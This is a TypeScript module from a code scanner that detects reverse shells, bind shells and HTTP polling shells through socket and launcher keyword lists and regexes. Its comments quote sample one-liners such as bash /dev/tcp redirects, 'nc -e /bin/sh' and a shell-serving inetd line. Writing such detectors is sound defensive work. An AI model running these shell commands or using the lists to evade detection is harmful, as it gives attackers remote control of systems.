/**
 * Reverse and bind shells for the `code` detector: a network stream wired to a shell, in any
 * language. Read as marks in one line (a request of a few lines is also read joined, so a short
 * program counts as one line): a socket (or `/dev/tcp`, `nc`, `socat`, a server socket that
 * accepts) that connects or accepts, and a shell or process launcher, so a one-liner is caught
 * however its parts are ordered or named. Netcat-like clients are read by their role flags (a
 * program to run for the peer), daemons by the login program they serve, and a loop that fetches
 * commands over HTTP into a script and runs it by the file it writes and then runs. A `/dev/tcp`
 * redirect that only opens or pokes a port (`timeout 1 bash -c '</dev/tcp/db/5432'`) is a probe.
 *
 * @internal Not part of the public API.
 */
import type { FindingSink } from './types.js';

const RCE = 'remote-code-execution';
const REVERSE = 'connects a shell to a network socket (a reverse or bind shell)';
const DEV_TCP = 'opens a raw network connection through /dev/tcp';
const TOOLING = 'builds or runs an exploitation payload (msfvenom, meterpreter)';
const POLLING = 'runs commands fetched from a server in a loop and sends their output back (a shell over HTTP)';

/** Socket marks (lower-case), one per language. */
const SOCKETS = [
  'socket.socket(',
  'socket(',
  'fsockopen(',
  'pfsockopen(',
  'tcpsocket',
  '-rsocket',
  'use socket',
  'io::socket',
  'net.connect(',
  'net.socket(',
  'net.createconnection(',
  "require('net')",
  'require("net")',
  'net.sockets.tcpclient',
  'sockets.tcpclient',
  'socket.tcp(',
  '/inet/tcp/',
  'new socket(',
  'net.dial(',
  'stream_socket_client(',
  'io::socket::inet',
  'ztcp ',
  's_client',
  // Server sockets (a bind shell accepts), and the connect calls of Rust, Dart, Lua, Deno, Bun, Tcl.
  'tcpserver',
  'tcplistener',
  'serversocket',
  'tcpstream',
  'socket_create(',
  'stream_socket_server(',
  'create_connection(',
  'socket.connect(',
  'deno.connect(',
  'deno.listen(',
  'bun.connect(',
  '[socket ',
  // The socket libraries of Lua and Ruby, loaded by name.
  "require('socket')",
  'require("socket")',
  "require 'socket'",
];

/** Shell and process-launch marks (lower-case). */
const LAUNCHERS = [
  'dup2(',
  'pty.spawn(',
  '/bin/sh',
  '/bin/bash',
  '/bin/zsh',
  'cmd.exe',
  'powershell',
  'sh -i',
  'subprocess',
  'exec(',
  'exec ',
  'system(',
  'spawn(',
  'popen(',
  'proc_open(',
  'shell_exec(',
  'passthru(',
  'child_process',
  'iex',
  'invoke-expression',
  'getstream(',
  'processbuilder',
  'getruntime()',
  'os.execute(',
  'open(stdin',
  'exec.command(',
  '|& getline',
  'fdopen(',
  'system$_',
  '>&$reply',
  // Process launchers of Crystal, Dart, .NET, Rust, Deno, Bun, Go and C, and fd rewiring (Ruby).
  'process.new(',
  'process.start(',
  'process.run(',
  'startinfo',
  'command::new(',
  'deno.command(',
  'deno.run(',
  'bun.spawn(',
  'os.startprocess(',
  'createprocess',
  'execv',
  'execl',
  '.reopen(',
];
const NC = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat']);
/**
 * Netcat-like clients whose program to run has a flag of its own: rustcat's `-s` / `--shell`,
 * powercat's `-e` / `-ep` (its `-c` names the host to call).
 */
const SERVES: ReadonlyMap<string, RegExp> = new Map([
  ['rcat', /\s(?:-s|--shell)[\s=]/],
  ['rustcat', /\s(?:-s|--shell)[\s=]/],
  ['powercat', /\s-ep?\s/],
]);
/** What a connect or an accept is written as, once a socket mark is on the line. */
const CONNECTS = [
  'connect',
  'bind(',
  'accept',
  'tcpclient',
  'fsockopen',
  'tcpsocket',
  '/inet/tcp/',
  'new socket(',
  'net.dial(',
  'stream_socket_client',
  'peeraddr',
  'ztcp ',
  '[socket ',
  // A client socket built with its peer: `IO::Socket::INET->new("h:p")`, Kotlin's `Socket("h", p)`.
  'inet->new(',
  'socket("',
  "socket('",
];

function isWordCode(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95 || c === 45 || c === 46;
}

function first(l: string, marks: readonly string[]): number {
  for (const m of marks) {
    const at = l.indexOf(m);
    if (at >= 0) return at;
  }
  return -1;
}

/** Scans lower-cased `l` (same offsets as the segment) for reverse and bind shells. */
export function scanShells(segment: string, l: string, sink: FindingSink): void {
  let found = false;
  const report = (start: number, end: number): void => {
    if (found) return;
    found = true;
    sink.report(
      'code.reverse-shell',
      RCE,
      'critical',
      REVERSE,
      start,
      end,
      segment.slice(start, Math.min(end, start + 96)),
    );
  };
  // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/…
  let at = l.indexOf('/dev/tcp/');
  if (at < 0) at = l.indexOf('/dev/udp/');
  if (at >= 0) {
    const probes = devTcpProbes(l);
    if (probes !== null) {
      // Ports opened or poked and closed: the connections feed no program.
      for (let k = 0; k < probes.length; k += 2) sink.settle?.(RCE, probes[k] as number, probes[k + 1] as number);
      at = -1;
    }
  }
  if (at >= 0) {
    if (l.includes('>&') || l.includes('<&') || l.includes(' -i') || l.includes('0>&1') || /<>\s*\/dev\//.test(l)) {
      report(0, l.length);
    } else {
      sink.report('code.dev-tcp', RCE, 'medium', DEV_TCP, at, at + 9, segment.slice(at, at + 48));
    }
  }
  // Netcat family with a program to run, or piped into a shell.
  if (!found) scanNetcat(l, report);
  // socat exec:/system: and a network address.
  if (!found) {
    at = l.indexOf('socat');
    if (
      at >= 0 &&
      (l.includes('exec:', at) || l.includes('system:', at)) &&
      (l.includes('tcp', at) || l.includes('ssl', at))
    ) {
      report(at, l.length);
    }
  }
  // A daemon that serves a shell as its login program: `telnetd -l /bin/sh`, an inetd service line.
  if (!found) {
    at = l.indexOf('telnetd');
    if (at >= 0 && /^\S*\s(?:[^;&|]*\s)?-l\s*\S*\b(?:ba|z|k|da|a)?sh\b/.test(l.slice(at, at + 160)))
      report(at, l.length);
    at = l.indexOf('nowait');
    if (!found && at >= 0 && INETD_SHELL.test(l)) report(0, l.length);
  }
  if (!found) scanPolling(segment, l, sink);
  // telnet h p | /bin/sh | telnet h p2
  if (!found) {
    at = l.indexOf('telnet ');
    if (at >= 0 && /\|\s*(\/bin\/)?(ba)?sh\b/.test(l)) report(at, l.length);
  }
  // A socket and a launcher in one line.
  if (!found) {
    const s = first(l, SOCKETS);
    if (s >= 0) {
      const p = first(l, LAUNCHERS);
      const connects = first(l, CONNECTS) >= 0 || (l.includes('s_client') && /\|\s*(\/bin\/)?(ba|z)?sh\b/.test(l));
      if (p >= 0 && connects) report(Math.min(s, p), l.length);
    }
  }
  // Exploitation tooling.
  at = l.indexOf('msfvenom');
  if (at < 0) at = l.indexOf('meterpreter');
  if (at >= 0) sink.report('code.exploit-payload', 'malware', 'high', TOOLING, at, at + 8, segment.slice(at, at + 64));
}

/** `nc -e /bin/sh h p`, `ncat --exec`, `nc h p | /bin/sh`, `mkfifo … nc`. */
function scanNetcat(l: string, report: (start: number, end: number) => void): void {
  const n = l.length;
  let i = 0;
  let guard = 0;
  while (i < n && guard++ < 256) {
    // Next word.
    while (i < n && !isWordCode(l.charCodeAt(i))) i++;
    const s = i;
    while (i < n && isWordCode(l.charCodeAt(i))) i++;
    if (i === s) break;
    let w = l.slice(s, i);
    const slash = l.lastIndexOf('/', i - 1);
    if (slash >= s - 1 && slash > 0 && l.charCodeAt(s - 1) === 47) w = l.slice(slash + 1, i);
    // The same programs built for Windows (`ncat.exe`, `nc64.exe`).
    if (w.endsWith('.exe')) w = w.slice(0, -4);
    if (w === 'nc64') w = 'nc';
    const serves = SERVES.get(w);
    if (!NC.has(w) && serves === undefined) continue;
    // The rest of this command (to a separator).
    let e = i;
    while (e < n && e < i + 256) {
      const c = l.charCodeAt(e);
      if (c === 59 || (c === 38 && l.charCodeAt(e + 1) === 38)) break;
      e++;
    }
    const rest = l.slice(i, e);
    if (serves !== undefined) {
      // `rcat connect -s bash host port`, `powercat -c host -p 443 -e cmd`: the program served.
      if (serves.test(`${rest} `)) {
        report(s, e);
        return;
      }
      continue;
    }
    if (
      /(^|\s)-[a-z]*[ec]\s/.test(`${rest} `) ||
      rest.includes('--exec') ||
      rest.includes('--sh-exec') ||
      rest.includes('--lua-exec') ||
      /\|\s*(\/bin\/)?(ba|z)?sh\b/.test(rest) ||
      l.includes('mkfifo') ||
      /\bmknod\s+\S+\s+p\b/.test(l) ||
      /\/bin\/(ba)?sh[^|]*\|\s*$/.test(l.slice(Math.max(0, s - 64), s))
    ) {
      report(s, e);
      return;
    }
  }
}

/** What a probe's command is: nothing, `:`, `true`, or an empty `echo` / `printf`, maybe as a loop's or a test's condition. */
const PROBE_COMMAND = /^(?:(?:until|while|if|!)(?:\s+|$))?(?:|:|true|echo(?:\s+-[ne]+)?|printf\s+(?:''|""))$/;
/** Anything that would wire the connection to a program: fd duplication, both ways, a shell. */
const WIRED =
  /<&|[0-9]>&\s*[0-9]*[^0-9\s]|>&\s*\/dev\/|&>\s*\/dev\/(?:tcp|udp)|<>|\s-i\b|\|\s*(?:\/bin\/)?(?:ba|z|k|da)?sh\b|\bexec\b/;

/**
 * The spans (start, end pairs) of the `/dev/tcp` and `/dev/udp` probes of `l` when every one is a
 * probe, else `null`: a plain `<` or `>` redirect on an empty command (`</dev/tcp/db/5432`,
 * `: </dev/tcp/h/p`, `echo > /dev/tcp/h/p`), on a line with no fd duplication and no shell reading.
 */
function devTcpProbes(l: string): number[] | null {
  if (WIRED.test(l.replaceAll('2>&1', ''))) return null;
  const spans: number[] = [];
  let at = l.indexOf('/dev/');
  while (at >= 0) {
    if (spans.length >= 16) return null;
    if (l.startsWith('/dev/tcp/', at) || l.startsWith('/dev/udp/', at)) {
      let j = at - 1;
      while (j >= 0 && l.charCodeAt(j) === 32) j--;
      const op = l.charCodeAt(j);
      if (op !== 60 && op !== 62) return null;
      j--;
      const before = l.charCodeAt(j);
      if (before === 60 || before === 62 || before === 38) return null;
      if (before === 48 || before === 49) j--;
      // The command before the redirect, back to where a command starts (at most 64 code units).
      let k = j;
      while (k >= 0 && k > j - 64 && !';|&("\'{'.includes(l[k] as string)) k--;
      // A closing quote ends what is sent (`echo "$(id)" > /dev/tcp/…`), not a command.
      if (k > 0 && (l[k] === '"' || l[k] === "'") && !' =('.includes(l[k - 1] as string)) return null;
      if (!PROBE_COMMAND.test(l.slice(k + 1, j + 1).trim())) return null;
      let e = at + 9;
      while (e < l.length && l.charCodeAt(e) > 32 && !';|&)"\''.includes(l[e] as string)) e++;
      spans.push(k + 1, e);
    }
    at = l.indexOf('/dev/', at + 5);
  }
  return spans;
}

/** An inetd service whose server program is a shell: `31337 stream tcp nowait root /bin/sh sh -i`. */
const INETD_SHELL = /\bstream\s+tcp6?\s+nowait(?:\.\d+)?\s+\S+\s+\S*\/(?:ba|z|k|da|a)?sh\b/;
/** A fetch whose output is written to a script file (`curl … > !temp!\\c.bat`, `-o c.bat`, `-OutFile c.ps1`). */
const FETCH_TO_SCRIPT =
  /\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^&|;()]{0,240}?(?:>|\s-o|\s--output|\s-outfile)\s*([^\s&|;()<>"']+\.(?:bat|cmd|ps1|vbs))\b/g;
/** Where a command starts, or a word that runs the file after it. */
const RUN_POSITION = /(?:^|[(&;|]|\b(?:call|start|bypass)|\s(?:\/c|-file|-f))\s*$/;
/** A loop, or the output sent back to a server. */
const POLLS =
  /\bfor\s+\/l\b|\bwhile\b|\bloop\b|\bgoto\b|-x\s+post\b|--data-binary\s+@|\s-d\s+@|--upload-file\b|-method\s+post\b/;

/**
 * A shell over HTTP in one command line: a fetch written to a script file that the line then runs
 * (the file at a command position), in a loop or with the output posted back. A one-time download
 * and run is left to the readings of downloads.
 */
function scanPolling(segment: string, l: string, sink: FindingSink): void {
  if (!POLLS.test(l)) return;
  FETCH_TO_SCRIPT.lastIndex = 0;
  let guard = 0;
  for (let m = FETCH_TO_SCRIPT.exec(l); m !== null && guard++ < 8; m = FETCH_TO_SCRIPT.exec(l)) {
    const file = m[1] as string;
    const from = m.index + m[0].length;
    for (let at = l.indexOf(file, from); at >= 0; at = l.indexOf(file, at + file.length)) {
      if (RUN_POSITION.test(l.slice(Math.max(0, at - 12), at))) {
        sink.report(
          'code.polling-shell',
          RCE,
          'critical',
          POLLING,
          m.index,
          l.length,
          segment.slice(m.index, m.index + 96),
        );
        return;
      }
    }
  }
}
